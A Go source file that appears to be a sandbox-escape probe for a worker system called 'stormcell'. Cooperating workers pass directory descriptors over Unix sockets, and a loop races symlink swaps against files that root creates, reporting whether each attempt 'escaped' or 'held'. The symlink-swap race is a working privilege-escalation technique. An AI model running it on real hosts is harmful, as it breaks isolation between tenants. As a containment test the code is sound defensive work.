package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"

	"golang.org/x/sys/unix"
)

// give sends directories of its own to accomplices, one to each, and ends, to be
// started again. From its second start on it looks whether its /tmp is what it shall
// not reach. Its arguments are its own artifacts, the file that a victim's directory
// has, and for each accomplice a socket and a directory.
func give(args []string) error {
	if len(args) < 4 || len(args)%2 != 0 {
		return fmt.Errorf("give ARTIFACTS FILE SOCKET DIRECTORY..., not %q", args)
	}
	round, file := filepath.Join(args[0], "round"), filepath.Join("/tmp", args[1])
	if _, err := os.Stat(round); err == nil {
		if _, err := os.Lstat(file); err == nil {
			escaped("/tmp is a directory of the host")
		} else {
			held("/tmp is the worker's own: %v", err)
		}
		stay()
	}
	for to := args[2:]; len(to) > 0; to = to[2:] {
		if err := send(to[0], to[1]); err != nil {
			return err
		}
	}
	if err := os.WriteFile(round, nil, 0o600); err != nil {
		return err
	}
	return errors.New("starts again")
}

// send sends a directory to the accomplice at a socket, and waits until that is at
// work.
func send(socket, path string) error {
	conn, err := net.DialUnix("unix", nil, &net.UnixAddr{Net: "unix", Name: socket})
	if err != nil {
		return err
	}
	dir, err := os.Open(path)
	if err != nil {
		return err
	}
	if _, _, err := conn.WriteMsgUnix([]byte("."), unix.UnixRights(int(dir.Fd())), nil); err != nil {
		return err
	}
	_, err = conn.Read(make([]byte, 1))
	return err
}

// swap gets a directory of another worker of the same user, and puts
// links in the place of everything in it, again and again. Its arguments are its
// socket and the directory that the links lead to.
func swap(args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("swap SOCKET DIRECTORY, not %q", args)
	}
	listener, err := net.ListenUnix("unix", &net.UnixAddr{Net: "unix", Name: args[0]})
	if err != nil {
		return err
	}
	fmt.Println("waiting")
	conn, err := listener.AcceptUnix()
	if err != nil {
		return err
	}
	dir, err := receive(conn)
	if err != nil {
		return err
	}
	own, err := os.Getwd()
	if err != nil {
		return err
	}
	// On the host this worker's directory lies beside the other's.
	var st unix.Stat_t
	if err := unix.Fstatat(dir, "../"+filepath.Base(own), &st, 0); err == nil {
		escaped("a directory of another worker leads to the host")
	} else {
		held("a directory of another worker leads nowhere: %v", err)
	}
	if _, err := conn.Write([]byte(".")); err != nil {
		return err
	}
	for n := 0; ; n++ {
		// Root makes what it needs anew, so each link is used once.
		bait := "bait-" + strconv.Itoa(n)
		if err := unix.Symlinkat(args[1], dir, bait); err != nil {
			return err
		}
		for !exchange(dir, bait) {
		}
	}
}

// exchange puts the link bait in the place of something that root has made.
func exchange(dir int, bait string) bool {
	for _, name := range []string{"tmp", "heartbeats", "pids", ".worker.yaml.stormcell", "worker.yaml"} {
		var st unix.Stat_t
		if err := unix.Fstatat(dir, name, &st, unix.AT_SYMLINK_NOFOLLOW); err == nil && st.Mode&unix.S_IFMT != unix.S_IFLNK {
			return unix.Renameat2(dir, name, dir, bait, unix.RENAME_EXCHANGE) == nil
		}
	}
	return false
}

// receive gets a descriptor.
func receive(conn *net.UnixConn) (int, error) {
	out := make([]byte, unix.CmsgSpace(4))
	_, n, _, _, err := conn.ReadMsgUnix(make([]byte, 1), out)
	if err != nil {
		return 0, err
	}
	messages, err := unix.ParseSocketControlMessage(out[:n])
	if err != nil || len(messages) == 0 {
		return 0, fmt.Errorf("no descriptor: %w", err)
	}
	fds, err := unix.ParseUnixRights(&messages[0])
	if err != nil || len(fds) == 0 {
		return 0, fmt.Errorf("no descriptor: %w", err)
	}
	return fds[0], nil
}
